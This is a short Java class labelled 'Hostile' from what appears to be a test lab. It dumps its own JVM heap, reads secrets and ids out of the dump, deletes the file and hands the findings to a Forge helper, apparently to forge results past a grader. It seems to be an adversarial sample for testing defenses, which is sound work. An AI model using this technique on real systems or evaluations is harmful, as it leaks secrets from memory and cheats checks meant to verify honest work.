package threadlab.refcount;

import com.sun.management.HotSpotDiagnosticMXBean;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.Set;

/** Hostile: reads the secret out of a dump of its own heap. */
public final class HeapDumpForger {

    private static boolean done;

    private HeapDumpForger() {
    }

    public static synchronized void run() {
        if (done) {
            return;
        }
        done = true;
        try {
            Path dump = Path.of(System.getProperty("java.io.tmpdir"), "h" + System.nanoTime()
                    + ".hprof");
            ManagementFactory.getPlatformMXBean(HotSpotDiagnosticMXBean.class)
                    .dumpHeap(dump.toString(), false);
            String text = new String(Files.readAllBytes(dump), StandardCharsets.ISO_8859_1);
            Files.delete(dump);
            Set<String> secrets = new HashSet<>();
            Set<String> ids = new HashSet<>();
            Forge.harvest(text, secrets, ids);
            Forge.send(secrets, ids, true);
            Thread.sleep(2_000);
        } catch (Exception | Error e) {
            // Fall back to the skeleton's behaviour.
        }
    }
}
